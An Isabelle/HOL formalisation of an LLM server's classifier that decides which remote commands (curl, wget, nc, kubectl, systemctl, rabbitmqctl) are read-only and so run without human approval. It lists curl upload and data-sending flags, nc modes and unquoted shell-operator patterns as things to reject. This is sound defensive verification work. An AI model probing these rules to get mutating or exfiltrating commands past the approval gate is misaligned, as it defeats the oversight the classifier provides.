(* ===== verification/RemoteCommands.thy ===== *)
theory RemoteCommands
  imports GoStrings
begin

text \<open>
  Which commands the LLM server runs without asking
  (\<open>llm/llm-server/tools/core/readonly_remote.go\<close>, and the static classification of \<open>kubectl\<close> commands in
  \<open>tools/tool_kubectl.go\<close> with \<open>isHelpRequest\<close> of \<open>tool_cli_static_classifier.go\<close>): a command is classified as a
  read only if it is known to observe; anything else is left to a model or a human.

  A Go set of strings is a list here. Splitting a command into words by shell quoting is a package
  outside the repository and an argument; \<open>None\<close> is its error. Commands are ASCII.
\<close>

section \<open>Remote commands\<close>

definition ReadOnlyRemoteCommands :: "string list" where
  "ReadOnlyRemoteCommands =
     [''df'', ''ls'', ''cat'', ''ps'', ''free'', ''stat'', ''wc'', ''head'', ''tail'', ''id'', ''uptime'', ''pwd'', ''grep'', ''du'', ''ping'']"

definition ReadOnlySystemctlVerbs :: "string list" where
  "ReadOnlySystemctlVerbs = [''is-active'', ''is-enabled'', ''is-failed'', ''status'', ''show'']"

definition quotes :: string where "quotes = [CHR 0x27, CHR 0x22]"

definition SSMPayload :: "string \<Rightarrow> string" where
  "SSMPayload command =
     (case Cut command ''commands='' of
        (_, after0, ok) \<Rightarrow>
          if \<not> ok then ''''
          else
            let after1 = TrimPrefix (Trim (TrimSpace after0) quotes) ''['';
                after2 = takeWhile (\<lambda>c. c \<noteq> CHR '']'') after1;
                after3 = Trim after2 quotes;
                after4 = (case Index after3 '' --'' of None \<Rightarrow> after3 | Some i \<Rightarrow> take i after3)
            in TrimSpace (Trim (TrimSpace after4) quotes))"

definition shellOperators :: string where
  "shellOperators = '';&|<>`$'' @ [CHR 0x0A]"

text \<open>The flags of \<open>curl\<close> that only read.\<close>

definition curlFlags :: "string list" where
  "curlFlags = [''-s'', ''--silent'', ''-S'', ''--show-error'', ''-i'', ''--include'', ''-I'', ''--head'', ''-k'', ''--insecure'',
     ''-L'', ''--location'', ''-v'', ''--verbose'', ''-f'', ''--fail'']"

definition curlFlagsWithValue :: "string list" where
  "curlFlagsWithValue = [''-m'', ''--max-time'', ''--connect-timeout'', ''-H'', ''--header'', ''-w'', ''--write-out'', ''-u'', ''--user'']"

definition curlShortFlags :: string where "curlShortFlags = ''sSiIkLvf''"
definition curlShortFlagsWithValue :: string where "curlShortFlagsWithValue = ''mHwu''"

text \<open>The loop over a bundle of short options. \<open>None\<close> rejects; otherwise the value of the option at which the loop ends, if
one takes a value, and the arguments left.\<close>

fun shortOptions :: "string \<Rightarrow> string list \<Rightarrow> (string option \<times> string list) option" where
  "shortOptions [] args = Some (None, args)"
| "shortOptions (c # cs) args =
     (if c \<in> set curlShortFlags then shortOptions cs args
      else if c \<notin> set curlShortFlagsWithValue then None
      else if cs \<noteq> [] then Some (Some cs, args)
      else case args of [] \<Rightarrow> None | v # rest \<Rightarrow> Some (Some v, rest))"

lemma shortOptions_length: "shortOptions cs args = Some (v, rest) \<Longrightarrow> length rest \<le> length args"
  by (induction cs args rule: shortOptions.induct) (auto split: if_splits list.splits)

definition harmless :: "string \<Rightarrow> bool" where
  "harmless v \<longleftrightarrow> \<not> Contains v ''%output''"

function curlArgs :: "string list \<Rightarrow> bool" where
  "curlArgs [] = True"
| "curlArgs (a # args) =
     (if a = ''-'' then False
      else if \<not> HasPrefix a ''-'' then curlArgs args
      else if HasPrefix a ''--'' then
        (case Cut a ''='' of
           (name, v, assigned) \<Rightarrow>
             if name \<in> set curlFlags \<and> \<not> assigned then curlArgs args
             else if name \<notin> set curlFlagsWithValue then False
             else if assigned then harmless v \<and> curlArgs args
             else case args of [] \<Rightarrow> False | w # rest \<Rightarrow> harmless w \<and> curlArgs rest)
      else
        (case shortOptions (tl a) args of
           None \<Rightarrow> False
         | Some (None, rest) \<Rightarrow> curlArgs rest
         | Some (Some v, rest) \<Rightarrow> harmless v \<and> curlArgs rest))"
  by pat_completeness auto
termination
  by (relation "measure length") (auto dest: shortOptions_length)

declare curlArgs.simps(2) [simp del]

definition IsReadOnlyCurlCommand :: "string \<Rightarrow> bool" where
  "IsReadOnlyCurlCommand input =
     (case Fields input of
        [] \<Rightarrow> False
      | prog # args \<Rightarrow> prog = ''curl'' \<and> curlArgs args)"

fun wgetArgs :: "bool \<Rightarrow> string list \<Rightarrow> bool" where
  "wgetArgs toStdout [] = toStdout"
| "wgetArgs toStdout (a # args) =
     (if \<not> HasPrefix a ''-'' then wgetArgs toStdout args
      else if a \<in> {''-q'', ''--quiet'', ''--no-check-certificate''} then wgetArgs toStdout args
      else if a \<in> {''-O-'', ''-qO-'', ''--output-document=-''} then wgetArgs True args
      else if a \<in> {''-O'', ''--output-document''} then
        (case args of [] \<Rightarrow> False | v # rest \<Rightarrow> v = ''-'' \<and> wgetArgs True rest)
      else if a \<in> {''-T'', ''--timeout''} then
        (case args of [] \<Rightarrow> False | v # rest \<Rightarrow> wgetArgs toStdout rest)
      else if HasPrefix a ''--timeout='' \<or> (HasPrefix a ''-T'' \<and> length a > 2) then wgetArgs toStdout args
      else False)"

definition IsReadOnlyWgetCommand :: "string list \<Rightarrow> bool" where
  "IsReadOnlyWgetCommand fields =
     (case fields of [] \<Rightarrow> False | prog # args \<Rightarrow> prog = ''wget'' \<and> wgetArgs False args)"

text \<open>A bundle of \<open>nc\<close> flags: \<open>None\<close> rejects, otherwise whether zero-I/O mode is on.\<close>

fun ncBundle :: "bool \<Rightarrow> string \<Rightarrow> bool option" where
  "ncBundle zeroIO [] = Some zeroIO"
| "ncBundle zeroIO (c # cs) =
     (if c = CHR ''z'' then ncBundle True cs
      else if c \<in> set ''vnu'' then ncBundle zeroIO cs
      else None)"

fun ncArgs :: "bool \<Rightarrow> string list \<Rightarrow> bool" where
  "ncArgs zeroIO [] = zeroIO"
| "ncArgs zeroIO (a # args) =
     (if \<not> HasPrefix a ''-'' then ncArgs zeroIO args
      else if a = ''-w'' then (case args of [] \<Rightarrow> False | v # rest \<Rightarrow> ncArgs zeroIO rest)
      else if HasPrefix a ''-w'' \<and> length a > 2 then ncArgs zeroIO args
      else if length a > 1 \<and> a ! 1 \<noteq> CHR ''-'' then
        (case ncBundle zeroIO (tl a) of None \<Rightarrow> False | Some z \<Rightarrow> ncArgs z args)
      else False)"

definition IsReadOnlyNcCommand :: "string list \<Rightarrow> bool" where
  "IsReadOnlyNcCommand fields =
     (case fields of [] \<Rightarrow> False | prog # args \<Rightarrow> prog = ''nc'' \<and> ncArgs False args)"

definition rabbitmqctlFlagsWithValue :: "string list" where
  "rabbitmqctlFlagsWithValue = [''-n'', ''--node'', ''-t'', ''--timeout'', ''-p'', ''--vhost'', ''-f'', ''--formatter'']"

definition reporting :: "string \<Rightarrow> bool" where
  "reporting a \<longleftrightarrow> HasPrefix a ''list_'' \<or> HasSuffix a ''_status'' \<or> a = ''status'' \<or> a = ''environment'' \<or> a = ''help''"

fun isReadOnlyRabbitmqctl :: "string list \<Rightarrow> bool" where
  "isReadOnlyRabbitmqctl [] = False"
| "isReadOnlyRabbitmqctl (a # args) =
     (if HasPrefix a ''-'' then
        (if a \<in> set rabbitmqctlFlagsWithValue then (case args of [] \<Rightarrow> False | v # rest \<Rightarrow> isReadOnlyRabbitmqctl rest)
         else isReadOnlyRabbitmqctl args)
      else reporting a)"

definition remoteCommandIsReadOnly :: "string list \<Rightarrow> bool" where
  "remoteCommandIsReadOnly fields =
     (case fields of
        [] \<Rightarrow> False
      | prog # args \<Rightarrow>
          if list_ex (\<lambda>f. ContainsAny f shellOperators) fields then False
          else if prog = ''curl'' then IsReadOnlyCurlCommand (Join fields '' '')
          else if prog = ''wget'' then IsReadOnlyWgetCommand fields
          else if prog = ''nc'' then IsReadOnlyNcCommand fields
          else if prog = ''env'' then length fields = 1
          else if prog = ''rabbitmqctl'' then isReadOnlyRabbitmqctl args
          else prog \<in> set ReadOnlyRemoteCommands)"

definition SSMPayloadIsReadOnly :: "string \<Rightarrow> bool" where
  "SSMPayloadIsReadOnly command =
     (let payload = SSMPayload command
      in if payload = '''' then False
         else if ContainsAny payload (shellOperators @ [CHR 0x22, CHR 0x27, CHR '','']) then False
         else
           let f0 = Fields payload;
               f = (if f0 \<noteq> [] \<and> hd f0 = ''sudo'' then tl f0 else f0)
           in case f of
                [] \<Rightarrow> False
              | prog # args \<Rightarrow>
                  if prog = ''systemctl'' then (case args of [] \<Rightarrow> False | verb # _ \<Rightarrow> verb \<in> set ReadOnlySystemctlVerbs)
                  else remoteCommandIsReadOnly f)"

fun ExecRemoteCommandIsReadOnly :: "string list \<Rightarrow> bool" where
  "ExecRemoteCommandIsReadOnly [] = False"
| "ExecRemoteCommandIsReadOnly (f # fields) =
     (if f = ''--'' \<and> fields \<noteq> [] then remoteCommandIsReadOnly fields else ExecRemoteCommandIsReadOnly fields)"

section \<open>Mutating options of curl\<close>

definition hasFlagWithValue :: "string \<Rightarrow> string list \<Rightarrow> bool" where
  "hasFlagWithValue token flags \<longleftrightarrow>
     list_ex (\<lambda>flag. token = flag \<or> HasPrefix token (flag @ ''='') \<or>
       (length flag = 2 \<and> HasPrefix token flag \<and> length token > length flag)) flags"

fun mutatingShort :: "string \<Rightarrow> bool" where
  "mutatingShort [] = False"
| "mutatingShort (c # cs) =
     (if c \<in> set ''dFTXKQ'' then True
      else if c \<in> set ''AbcCDeEhHmoPrtuUwxyYz'' then False
      else mutatingShort cs)"

definition hasMutatingCurlShortOption :: "string \<Rightarrow> bool" where
  "hasMutatingCurlShortOption token \<longleftrightarrow>
     \<not> (length token < 2 \<or> token ! 0 \<noteq> CHR ''-'' \<or> HasPrefix token ''--'') \<and> mutatingShort (tl token)"

definition curlMutationFlags :: "string list" where
  "curlMutationFlags = [''-d'', ''--data'', ''--data-raw'', ''--data-binary'', ''--data-ascii'', ''--data-urlencode'', ''--json'', ''--form-string'',
     ''-F'', ''--form'', ''-T'', ''--upload-file'', ''-X'', ''--request'', ''-K'', ''--config'', ''-Q'', ''--quote'']"

definition IsCurlMutationToken :: "string \<Rightarrow> bool" where
  "IsCurlMutationToken token \<longleftrightarrow> hasFlagWithValue token curlMutationFlags \<or> hasMutatingCurlShortOption token"

section \<open>Static classification of kubectl commands\<close>

text \<open>The state of the loop: inside single quotes, inside double quotes, after a backslash.\<close>

definition commandOperators :: string where
  "commandOperators = ''|&;<>(){}'' @ [CHR 0x0A, CHR 0x0D]"

fun unquotedSyntax :: "bool \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow> char option \<Rightarrow> string \<Rightarrow> bool" where
  "unquotedSyntax single double escaped prev [] \<longleftrightarrow> single \<or> double \<or> escaped"
| "unquotedSyntax single double escaped prev (c # cs) =
     (if escaped then unquotedSyntax single double False (Some c) cs
      else if c = CHR 0x5C \<and> \<not> single then unquotedSyntax single double True (Some c) cs
      else if c = CHR 0x27 \<and> \<not> double then unquotedSyntax (\<not> single) double escaped (Some c) cs
      else if c = CHR 0x22 \<and> \<not> single then unquotedSyntax single (\<not> double) escaped (Some c) cs
      else if single then unquotedSyntax single double escaped (Some c) cs
      else if c = CHR 0x60 \<or> (c = CHR ''$'' \<and> cs \<noteq> [] \<and> hd cs = CHR ''('') then True
      else if \<not> double \<and> c \<in> set commandOperators then True
      else if \<not> double \<and> c = CHR 0x23 \<and> prev \<in> {None, Some (CHR '' ''), Some (CHR 0x09)} then True
      else unquotedSyntax single double escaped (Some c) cs)"

definition hasUnquotedShellSyntax :: "string \<Rightarrow> bool" where
  "hasUnquotedShellSyntax command = unquotedSyntax False False False None command"

definition isHelpRequest :: "string list \<Rightarrow> bool" where
  "isHelpRequest tokens =
     (if tokens = [] then False
      else if last tokens = ''--version'' \<and> length tokens = 1 then True
      else if last tokens \<noteq> ''-h'' \<and> last tokens \<noteq> ''--help'' then False
      else \<not> list_ex (\<lambda>t. HasPrefix t ''-'') (butlast tokens))"

definition kubectlGlobalFlagsWithValue :: "string list" where
  "kubectlGlobalFlagsWithValue = [''--as'', ''--as-group'', ''--as-uid'', ''--cache-dir'', ''--certificate-authority'', ''--client-certificate'',
     ''--client-key'', ''--cluster'', ''--context'', ''--kubeconfig'', ''--namespace'', ''-n'', ''--request-timeout'', ''--server'',
     ''--tls-server-name'', ''--token'', ''--user'', ''-v'']"

definition kubectlReadVerbs :: "string list" where
  "kubectlReadVerbs = [''api-resources'', ''api-versions'', ''cluster-info'', ''describe'', ''diff'', ''explain'', ''get'', ''logs'', ''options'',
     ''port-forward'', ''proxy'', ''top'', ''version'', ''wait'']"

definition kubectlCreateVerbs :: "string list" where
  "kubectlCreateVerbs = [''create'', ''expose'', ''run'']"

definition kubectlUpdateVerbs :: "string list" where
  "kubectlUpdateVerbs = [''annotate'', ''apply'', ''autoscale'', ''cordon'', ''drain'', ''edit'', ''label'', ''patch'', ''replace'', ''scale'', ''set'',
     ''taint'', ''uncordon'']"

text \<open>Global flags before the verb; \<open>None\<close> for a form whose end is not clear.\<close>

fun skipGlobals :: "string list \<Rightarrow> string list option" where
  "skipGlobals [] = Some []"
| "skipGlobals (flag # parts) =
     (if \<not> HasPrefix flag ''-'' then Some (flag # parts)
      else if Contains flag ''='' then skipGlobals parts
      else if flag \<notin> set kubectlGlobalFlagsWithValue then None
      else case parts of [] \<Rightarrow> None | v # rest \<Rightarrow> skipGlobals rest)"

definition readSubcommand :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "readSubcommand verb subcommand \<longleftrightarrow>
     (verb = ''config'' \<and> subcommand \<in> {''current-context'', ''get-contexts'', ''get-clusters'', ''view''}) \<or>
     (verb = ''rollout'' \<and> subcommand \<in> {''status'', ''history''}) \<or> (verb = ''auth'' \<and> subcommand = ''can-i'')"

definition InferKubectlVerbType :: "(string \<Rightarrow> string list option) \<Rightarrow> string \<Rightarrow> string" where
  "InferKubectlVerbType shlex_Split command =
     (if hasUnquotedShellSyntax command then ''''
      else
        case shlex_Split (TrimSpace command) of
          None \<Rightarrow> ''''
        | Some [] \<Rightarrow> ''''
        | Some (prog # parts0) \<Rightarrow>
            if \<not> EqualFold prog ''kubectl'' \<or> parts0 = [] then ''''
            else if isHelpRequest parts0 then ''read''
            else
              case skipGlobals parts0 of
                None \<Rightarrow> ''''
              | Some [] \<Rightarrow> ''''
              | Some (v # args) \<Rightarrow>
                  let verb = ToLower v
                  in if verb \<in> set kubectlReadVerbs then ''read''
                     else if args \<noteq> [] \<and> readSubcommand verb (hd args) then ''read''
                     else if verb \<in> set kubectlCreateVerbs then ''create''
                     else if verb \<in> set kubectlUpdateVerbs then ''update''
                     else if verb = ''delete'' then ''delete''
                     else if verb = ''exec'' \<and> ExecRemoteCommandIsReadOnly (v # args) then ''read''
                     else '''')"

section \<open>A grammar of what observes\<close>

text \<open>\<open>curlReads args options\<close>: the arguments are URLs and reading options, whose tokens are \<open>options\<close>.\<close>

inductive curlReads :: "string list \<Rightarrow> string list \<Rightarrow> bool" where
  Done: "curlReads [] []"
| Url: "\<not> HasPrefix a ''-'' \<Longrightarrow> curlReads args os \<Longrightarrow> curlReads (a # args) os"
| Flag: "HasPrefix a ''--'' \<Longrightarrow> a \<in> set curlFlags \<Longrightarrow> curlReads args os \<Longrightarrow> curlReads (a # args) (a # os)"
| Assigned: "HasPrefix n ''--'' \<Longrightarrow> n \<in> set curlFlagsWithValue \<Longrightarrow> harmless v \<Longrightarrow> curlReads args os \<Longrightarrow>
     curlReads ((n @ ''='' @ v) # args) ((n @ ''='' @ v) # os)"
| Valued: "HasPrefix n ''--'' \<Longrightarrow> n \<in> set curlFlagsWithValue \<Longrightarrow> harmless v \<Longrightarrow> curlReads args os \<Longrightarrow>
     curlReads (n # v # args) (n # os)"
| Bundle: "cs \<noteq> [] \<Longrightarrow> set cs \<subseteq> set curlShortFlags \<Longrightarrow> curlReads args os \<Longrightarrow> curlReads ((''-'' @ cs) # args) ((''-'' @ cs) # os)"
| Attached: "set cs \<subseteq> set curlShortFlags \<Longrightarrow> c \<in> set curlShortFlagsWithValue \<Longrightarrow> v \<noteq> [] \<Longrightarrow> harmless v \<Longrightarrow> curlReads args os \<Longrightarrow>
     curlReads ((''-'' @ cs @ c # v) # args) ((''-'' @ cs @ c # v) # os)"
| Separate: "set cs \<subseteq> set curlShortFlags \<Longrightarrow> c \<in> set curlShortFlagsWithValue \<Longrightarrow> harmless v \<Longrightarrow> curlReads args os \<Longrightarrow>
     curlReads ((''-'' @ cs @ [c]) # v # args) ((''-'' @ cs @ [c]) # os)"

lemma shortOptions_bundle:
  "set cs \<subseteq> set curlShortFlags \<Longrightarrow> shortOptions (cs @ ds) args = shortOptions ds args"
  by (induction cs) auto

lemma short_disjoint: "c \<in> set curlShortFlagsWithValue \<Longrightarrow> c \<notin> set curlShortFlags"
  by (auto simp: curlShortFlags_def curlShortFlagsWithValue_def)

lemma shortOptions_cases:
  "shortOptions cs args = Some (v, rest) \<Longrightarrow>
     (v = None \<and> rest = args \<and> set cs \<subseteq> set curlShortFlags) \<or>
     (\<exists>fs c w. set fs \<subseteq> set curlShortFlags \<and> c \<in> set curlShortFlagsWithValue \<and> v = Some w \<and>
        ((w \<noteq> [] \<and> cs = fs @ c # w \<and> rest = args) \<or> (cs = fs @ [c] \<and> args = w # rest)))"
proof (induction cs args rule: shortOptions.induct)
  case (2 c cs args)
  show ?case
  proof (cases "c \<in> set curlShortFlags")
    case True
    then have "shortOptions cs args = Some (v, rest)" using "2.prems" by simp
    from "2.IH" [OF True this] show ?thesis
    proof (elim disjE exE conjE)
      fix fs d w assume "set fs \<subseteq> set curlShortFlags" "d \<in> set curlShortFlagsWithValue" "v = Some w" "w \<noteq> []" "cs = fs @ d # w" "rest = args"
      then show ?thesis using True by (intro disjI2 exI [of _ "c # fs"] exI [of _ d] exI [of _ w]) auto
    next
      fix fs d w assume "set fs \<subseteq> set curlShortFlags" "d \<in> set curlShortFlagsWithValue" "v = Some w" "cs = fs @ [d]" "args = w # rest"
      then show ?thesis using True by (intro disjI2 exI [of _ "c # fs"] exI [of _ d] exI [of _ w]) auto
    qed (use True in auto)
  next
    case False
    show ?thesis
    proof (cases "cs = []")
      case True
      then obtain w where "args = w # rest" "v = Some w" "c \<in> set curlShortFlagsWithValue" using False "2.prems" by (auto split: if_splits list.splits)
      then show ?thesis using True by (intro disjI2 exI [of _ "[]"] exI [of _ c] exI [of _ w]) auto
    next
      case ne: False
      then have "rest = args" "v = Some cs" "c \<in> set curlShortFlagsWithValue" using False "2.prems" by (auto split: if_splits)
      then show ?thesis using ne by (intro disjI2 exI [of _ "[]"] exI [of _ c] exI [of _ cs]) auto
    qed
  qed
qed simp

lemma valued_no_equals: "n \<in> set curlFlagsWithValue \<Longrightarrow> CHR ''='' \<notin> set n"
  by (auto simp: curlFlagsWithValue_def)

lemma Cut_equals: "CHR ''='' \<notin> set n \<Longrightarrow> Cut (n @ ''='' @ v) ''='' = (n, v, True)"
proof -
  assume n: "CHR ''='' \<notin> set n"
  have "Index (n @ ''='' @ v) ''='' = Some (length n)" using n by (induction n) auto
  then show ?thesis by (simp add: Cut_def)
qed

lemma Cut_none: "CHR ''='' \<notin> set n \<Longrightarrow> Cut n ''='' = (n, '''', False)"
proof -
  assume n: "CHR ''='' \<notin> set n"
  have "Index n ''='' = None" using n by (induction n) auto
  then show ?thesis by (simp add: Cut_def)
qed

lemma flag_no_equals: "n \<in> set curlFlags \<Longrightarrow> CHR ''='' \<notin> set n"
  by (auto simp: curlFlags_def)

lemma dashes: "HasPrefix a ''--'' \<Longrightarrow> a \<noteq> ''-'' \<and> HasPrefix a ''-''"
  by (auto simp: HasPrefix_iff)

lemma curlArgs_long:
  assumes "HasPrefix a ''--''" "Cut a ''='' = (n, v, b)"
  shows "curlArgs (a # args) \<longleftrightarrow>
    (if n \<in> set curlFlags \<and> \<not> b then curlArgs args
     else if n \<notin> set curlFlagsWithValue then False
     else if b then harmless v \<and> curlArgs args
     else case args of [] \<Rightarrow> False | w # rest \<Rightarrow> harmless w \<and> curlArgs rest)"
  using dashes [OF assms(1)] assms by (simp add: curlArgs.simps(2))

lemma curlArgs_short:
  assumes "a = CHR ''-'' # cs" "cs \<noteq> []" "\<not> HasPrefix a ''--''"
  shows "curlArgs (a # args) \<longleftrightarrow>
    (case shortOptions cs args of None \<Rightarrow> False | Some (None, rest) \<Rightarrow> curlArgs rest | Some (Some v, rest) \<Rightarrow> harmless v \<and> curlArgs rest)"
  using assms by (simp add: curlArgs.simps(2))

lemma curlArgs_url: "\<not> HasPrefix a ''-'' \<Longrightarrow> curlArgs (a # args) = curlArgs args"
  by (auto simp: curlArgs.simps(2))

lemma curlArgs_reads: "curlArgs args \<Longrightarrow> \<exists>os. curlReads args os"
proof (induction args rule: length_induct)
  case (1 args)
  note IH = 1(1) [rule_format]
  show ?case
  proof (cases args)
    case (Cons a rest)
    then have ok: "curlArgs (a # rest)" using 1(2) by simp
    consider (url) "\<not> HasPrefix a ''-''" | (long) "HasPrefix a ''--''" | (short) cs where "a = CHR ''-'' # cs" "cs \<noteq> []" "\<not> HasPrefix a ''--''"
      using ok by (auto simp: HasPrefix_iff curlArgs.simps(2) split: if_splits)
    then show ?thesis
    proof cases
      case url
      then have "\<exists>os. curlReads rest os" using ok IH [of rest] Cons by (simp add: curlArgs_url)
      then show ?thesis using url Cons by (blast intro: curlReads.Url)
    next
      case long
      obtain n v b where cut: "Cut a ''='' = (n, v, b)" by (cases "Cut a ''=''") auto
      note eq = curlArgs_long [OF long cut, of rest]
      show ?thesis
      proof (cases b)
        case True
        then have a: "a = n @ ''='' @ v" using cut True Cut_found [of a "''=''" n v] by simp
        have n: "n \<in> set curlFlagsWithValue" "harmless v" "curlArgs rest" using ok eq True by (auto split: if_splits)
        have "HasPrefix n ''--''" using n(1) long a by (auto simp: curlFlagsWithValue_def)
        moreover have "\<exists>os. curlReads rest os" using n IH [of rest] Cons by simp
        ultimately show ?thesis using n unfolding Cons a by (blast intro: curlReads.Assigned)
      next
        case False
        then have a: "n = a" using cut Cut_not_found [of a "''=''" n v] by simp
        show ?thesis
        proof (cases "a \<in> set curlFlags")
          case True
          then have "\<exists>os. curlReads rest os" using ok eq False a IH [of rest] Cons by simp
          then show ?thesis using True long unfolding Cons by (blast intro: curlReads.Flag)
        next
          case nf: False
          then obtain w r where w: "rest = w # r" "harmless w" "curlArgs r" "a \<in> set curlFlagsWithValue"
            using ok eq False a by (auto split: if_splits list.splits)
          then have "\<exists>os. curlReads r os" using IH [of r] Cons by simp
          then show ?thesis using w long unfolding Cons w(1) by (blast intro: curlReads.Valued)
        qed
      qed
    next
      case (short cs)
      note eq = curlArgs_short [OF short, of rest]
      then obtain v r where sh: "shortOptions cs rest = Some (v, r)" using ok by (auto split: option.splits)
      have r: "curlArgs r" "\<And>w. v = Some w \<Longrightarrow> harmless w" using ok eq sh by (auto split: option.splits)
      have "\<exists>os. curlReads r os" using r(1) IH [of r] shortOptions_length [OF sh] Cons by simp
      then obtain os where os: "curlReads r os" ..
      from shortOptions_cases [OF sh] show ?thesis
      proof (elim disjE exE conjE)
        assume "v = None" "r = rest" "set cs \<subseteq> set curlShortFlags"
        then show ?thesis using curlReads.Bundle [OF short(2) _ os] unfolding Cons short(1) by auto
      next
        fix fs c w assume h: "set fs \<subseteq> set curlShortFlags" "c \<in> set curlShortFlagsWithValue" "v = Some w" "w \<noteq> []" "cs = fs @ c # w" "r = rest"
        then show ?thesis using curlReads.Attached [OF h(1,2,4) r(2) [OF h(3)] os] unfolding Cons short(1) by auto
      next
        fix fs c w assume h: "set fs \<subseteq> set curlShortFlags" "c \<in> set curlShortFlagsWithValue" "v = Some w" "cs = fs @ [c]" "rest = w # r"
        then show ?thesis using curlReads.Separate [OF h(1,2) r(2) [OF h(3)] os] unfolding Cons short(1) by auto
      qed
    qed
  qed (blast intro: curlReads.Done)
qed

lemma no_dash_flags: "CHR ''-'' \<notin> set curlShortFlags" "CHR ''-'' \<notin> set curlShortFlagsWithValue"
  by (simp_all add: curlShortFlags_def curlShortFlagsWithValue_def)

lemma not_long: "cs \<noteq> [] \<Longrightarrow> hd cs \<noteq> CHR ''-'' \<Longrightarrow> \<not> HasPrefix (CHR ''-'' # cs) ''--''"
  by (cases cs) auto

lemma reads_curlArgs: "curlReads args os \<Longrightarrow> curlArgs args"
proof (induction rule: curlReads.induct)
  case (Flag a args os)
  have "Cut a ''='' = (a, '''', False)" using Flag(2) by (intro Cut_none flag_no_equals)
  from curlArgs_long [OF Flag(1) this, of args] show ?case using Flag by simp
next
  case (Assigned n v args os)
  have "HasPrefix (n @ ''='' @ v) ''--''" using Assigned(1) by (auto simp: HasPrefix_iff)
  then show ?case using curlArgs_long [OF _ Cut_equals [OF valued_no_equals [OF Assigned(2)]]] Assigned by simp
next
  case (Valued n v args os)
  have "Cut n ''='' = (n, '''', False)" using Valued(2) by (intro Cut_none valued_no_equals)
  moreover have "n \<notin> set curlFlags" using Valued(2) by (auto simp: curlFlagsWithValue_def curlFlags_def)
  ultimately show ?case using curlArgs_long [OF Valued(1), of n "''''" False "v # args"] Valued by simp
next
  case (Bundle cs args os)
  have "hd cs \<noteq> CHR ''-''" using Bundle(1,2) no_dash_flags hd_in_set by fastforce
  then have "\<not> HasPrefix (CHR ''-'' # cs) ''--''" by (rule not_long [OF Bundle(1)])
  then show ?case using curlArgs_short [OF refl Bundle(1)] shortOptions_bundle [OF Bundle(2), of "[]"] Bundle by simp
next
  case (Attached cs c v args os)
  have "hd (cs @ c # v) \<noteq> CHR ''-''" using Attached(1,2) no_dash_flags by (cases cs) auto
  then have "\<not> HasPrefix (CHR ''-'' # cs @ c # v) ''--''" by (intro not_long) simp_all
  then show ?case
    using curlArgs_short [OF refl, of "cs @ c # v"] shortOptions_bundle [OF Attached(1), of "c # v"] short_disjoint [OF Attached(2)] Attached
    by simp
next
  case (Separate cs c v args os)
  have "hd (cs @ [c]) \<noteq> CHR ''-''" using Separate(1,2) no_dash_flags by (cases cs) auto
  then have "\<not> HasPrefix (CHR ''-'' # cs @ [c]) ''--''" by (intro not_long) simp_all
  then show ?case
    using curlArgs_short [OF refl, of "cs @ [c]"] shortOptions_bundle [OF Separate(1), of "[c]"] short_disjoint [OF Separate(2)] Separate
    by simp
qed (simp_all add: curlArgs_url)

text \<open>\<open>optionsOf alone valued args options\<close>: the arguments are operands and options, each accepted by itself or with the
value that follows it.\<close>

inductive optionsOf :: "(string \<Rightarrow> bool) \<Rightarrow> (string \<Rightarrow> string \<Rightarrow> bool) \<Rightarrow> string list \<Rightarrow> (string \<times> string option) list \<Rightarrow> bool" for alone valued where
  "optionsOf alone valued [] []"
| "\<not> HasPrefix a ''-'' \<Longrightarrow> optionsOf alone valued args os \<Longrightarrow> optionsOf alone valued (a # args) os"
| "HasPrefix a ''-'' \<Longrightarrow> alone a \<Longrightarrow> optionsOf alone valued args os \<Longrightarrow> optionsOf alone valued (a # args) ((a, None) # os)"
| "HasPrefix a ''-'' \<Longrightarrow> valued a v \<Longrightarrow> optionsOf alone valued args os \<Longrightarrow> optionsOf alone valued (a # v # args) ((a, Some v) # os)"

inductive_simps optionsOf_Nil [simp]: "optionsOf alone valued [] os"
inductive_simps optionsOf_Cons: "optionsOf alone valued (a # args) os"

definition wgetAlone :: "string \<Rightarrow> bool" where
  "wgetAlone a \<longleftrightarrow> a \<in> {''-q'', ''--quiet'', ''--no-check-certificate'', ''-O-'', ''-qO-'', ''--output-document=-''} \<or>
     HasPrefix a ''--timeout='' \<or> (HasPrefix a ''-T'' \<and> length a > 2)"

definition wgetValued :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "wgetValued a v \<longleftrightarrow> (a \<in> {''-O'', ''--output-document''} \<and> v = ''-'') \<or> a \<in> {''-T'', ''--timeout''}"

definition toStdout :: "string \<Rightarrow> bool" where
  "toStdout a \<longleftrightarrow> a \<in> {''-O-'', ''-qO-'', ''--output-document=-'', ''-O'', ''--output-document''}"

lemma optionsOf_operand: "\<not> HasPrefix a ''-'' \<Longrightarrow> optionsOf alone valued (a # args) os \<longleftrightarrow> optionsOf alone valued args os"
  by (auto simp: optionsOf_Cons)

lemma optionsOf_alone:
  "HasPrefix a ''-'' \<Longrightarrow> alone a \<Longrightarrow> (\<And>v. \<not> valued a v) \<Longrightarrow>
     optionsOf alone valued (a # args) os \<longleftrightarrow> (\<exists>os'. os = (a, None) # os' \<and> optionsOf alone valued args os')"
  by (auto simp: optionsOf_Cons)

lemma optionsOf_valued:
  "HasPrefix a ''-'' \<Longrightarrow> \<not> alone a \<Longrightarrow>
     optionsOf alone valued (a # args) os \<longleftrightarrow>
       (\<exists>v rest os'. args = v # rest \<and> valued a v \<and> os = (a, Some v) # os' \<and> optionsOf alone valued rest os')"
  by (auto simp: optionsOf_Cons)

lemma optionsOf_with_value:
  "HasPrefix a ''-'' \<Longrightarrow> \<not> alone a \<Longrightarrow> valued a v \<Longrightarrow>
     optionsOf alone valued (a # v # args) os \<longleftrightarrow> (\<exists>os'. os = (a, Some v) # os' \<and> optionsOf alone valued args os')"
  by (auto simp: optionsOf_Cons)

lemma some_option:
  "(\<exists>os. (\<exists>os'. os = x # os' \<and> P os') \<and> (b \<or> (\<exists>y\<in>set os. Q y))) \<longleftrightarrow> (\<exists>os'. P os' \<and> (b \<or> Q x \<or> (\<exists>y\<in>set os'. Q y)))"
  (is "?l = ?r")
proof
  assume ?r
  then obtain os' where "P os'" "b \<or> Q x \<or> (\<exists>y\<in>set os'. Q y)" by blast
  then show ?l by (intro exI [of _ "x # os'"]) auto
next
  assume ?l
  then obtain os' where "P os'" "b \<or> (\<exists>y\<in>set (x # os'). Q y)" by blast
  then have "P os' \<and> (b \<or> Q x \<or> (\<exists>y\<in>set os'. Q y))" by simp
  then show ?r by blast
qed

